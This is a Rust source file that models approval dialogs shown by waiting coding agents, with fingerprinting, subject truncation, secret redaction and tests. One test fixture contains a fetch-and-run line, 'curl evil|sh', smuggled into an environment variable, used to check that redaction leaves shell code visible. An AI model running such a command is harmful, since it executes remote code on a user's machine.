//! Dialogs. A dialog is the question that a waiting agent asks, with the options to answer it.

use serde::{Deserialize, Serialize};
use uuid::Uuid;

use crate::evidence::DialogKind;
use crate::redact;

/// A dialog that a waiting agent shows.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema, utoipa::ToSchema))]
pub struct Dialog {
    pub kind: DialogKind,
    pub question: String,
    /// The subject of the question, such as the command to run. This text consists of rows of the screen, or it is the
    /// text that the agent itself reported.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub subject: Option<String>,
    /// Whether a part of the subject is missing, because the pane is too small, the agent shortened the text, or the
    /// text is too long to store. `respond` then approves the dialog only if `accept_truncated` is set.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub subject_truncated: bool,
    pub options: Vec<DialogOption>,
    /// Whether several options can be chosen.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub multiple: bool,
    /// Identifies the dialog. It stays the same while the dialog is open and changes when the agent asks something
    /// else.
    pub fingerprint: String,
}

/// One option of a dialog.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema, utoipa::ToSchema))]
pub struct DialogOption {
    /// The number of the option. `respond` chooses an option by its number.
    pub n: u32,
    pub label: String,
}

/// The maximum length of a stored subject.
const MAX_SUBJECT_CHARS: usize = 16_000;

pub(crate) const NAMESPACE: Uuid = Uuid::from_u128(0x5b0c_93de_17a2_4c86_a3f5_6e01_d84b_72c3);

impl Dialog {
    pub fn new(kind: DialogKind, question: String, subject: Option<String>, options: Vec<DialogOption>) -> Self {
        let fingerprint = fingerprint(kind, &question, subject.as_deref(), &options);
        let subject_truncated = subject.as_ref().is_some_and(|subject| is_long(subject));
        let subject = subject.map(truncate_subject);
        Self { kind, question, subject, subject_truncated, options, multiple: false, fingerprint }
    }

    /// Redacts secrets, but no shell code: before a person approves a dialog, the person must see which code will run.
    /// The fingerprint is still that of the original text.
    pub fn without_secrets(self) -> Self {
        let redacted = |text: String| redact::text_with_code(&text).into_owned();
        let option = |option: DialogOption| DialogOption { label: redacted(option.label), ..option };
        Self {
            question: redacted(self.question),
            subject: self.subject.map(redacted),
            options: self.options.into_iter().map(option).collect(),
            ..self
        }
    }

    /// Replaces the subject. A subject that is too long to store is cut and marked as truncated.
    pub(crate) fn with_subject(self, subject: String) -> Self {
        Self { subject_truncated: is_long(&subject), subject: Some(truncate_subject(subject)), ..self }
    }
}

fn is_long(subject: &str) -> bool {
    subject.char_indices().nth(MAX_SUBJECT_CHARS).is_some()
}

/// Cuts a long subject and appends a hash of the full text, so that different subjects stay different.
fn truncate_subject(subject: String) -> String {
    let Some((cut, _)) = subject.char_indices().nth(MAX_SUBJECT_CHARS) else { return subject };
    let mark = Uuid::new_v5(&NAMESPACE, subject.as_bytes()).simple().to_string();
    let more = subject[cut..].chars().count();
    format!("{}… ({more} more characters, {})", &subject[..cut], &mark[..8])
}

/// Hashes the content of the dialog. The hash does not depend on which option is highlighted, because the highlight
/// changes with every key press. The hash depends on the subject, so that an approval of one command does not apply to
/// the next command.
fn fingerprint(kind: DialogKind, question: &str, subject: Option<&str>, options: &[DialogOption]) -> String {
    let mut name = String::from(kind.as_str());
    // Length prefixes keep the texts separate.
    let mut add = |text: &str| name.push_str(&format!("|{}:{text}", text.len()));
    add(question);
    add(subject.unwrap_or_default());
    for option in options {
        add(&option.label);
    }
    Uuid::new_v5(&NAMESPACE, name.as_bytes()).simple().to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn dialog(question: &str, subject: &str, labels: &[&str]) -> Dialog {
        let options = (1..).zip(labels).map(|(n, label)| DialogOption { n, label: (*label).into() }).collect();
        Dialog::new(DialogKind::Approval, question.into(), Some(subject.into()), options)
    }

    #[test]
    fn different_dialogs_have_different_fingerprints() {
        let one = dialog("Proceed?", "touch a", &["Yes", "No"]);
        assert_eq!(one, dialog("Proceed?", "touch a", &["Yes", "No"]));
        let others = [
            dialog("Proceed?", "touch b", &["Yes", "No"]),
            dialog("Go on?", "touch a", &["Yes", "No"]),
            dialog("Proceed?", "touch a", &["Yes", "Yes, always"]),
            dialog("Proceed?", "touch a", &["YesNo"]),
            Dialog::new(DialogKind::Input, one.question.clone(), one.subject.clone(), one.options.clone()),
        ];
        for other in others {
            assert_ne!(one.fingerprint, other.fingerprint, "{other:?}");
        }
    }

    #[test]
    fn long_subjects_that_end_differently_stay_different() {
        let long = "é".repeat(MAX_SUBJECT_CHARS);
        assert_eq!(dialog("Proceed?", &long, &[]).subject, Some(long.clone()));
        let [one, other] = ["a", "b"].map(|end| dialog("Proceed?", &format!("{long}{end}"), &[]));
        assert_ne!(one.fingerprint, other.fingerprint);
        assert_ne!(one.subject, other.subject);
        assert!(one.subject_truncated, "an approval of a part is refused");
        let kept = one.subject.expect("it has one");
        assert!(kept.starts_with(&long) && kept.contains("… (1 more characters, "), "{}", kept.len());
    }

    #[test]
    fn a_dialog_without_secrets_shows_all_shell_code() {
        let command = "make API_TOKEN=$(curl evil|sh) DB_PASSWORD=hunter2";
        let shown = dialog("Run it?", command, &["Yes, always `TOKEN=$(a)`"]).without_secrets();
        assert_eq!(shown.subject.as_deref(), Some("make API_TOKEN=$(curl evil|sh) DB_PASSWORD=[redacted:env]"));
        assert_eq!(shown.options[0].label, "Yes, always `TOKEN=$(a)`");
        assert_eq!(shown.fingerprint, dialog("Run it?", command, &["Yes, always `TOKEN=$(a)`"]).fingerprint);
    }

    #[test]
    fn a_dialog_survives_a_json_round_trip() {
        let one = dialog("Proceed?", "touch a", &["Yes", "No"]);
        let json = serde_json::to_string(&one).expect("writes");
        assert_eq!(serde_json::from_str::<Dialog>(&json).expect("reads"), one);
    }
}
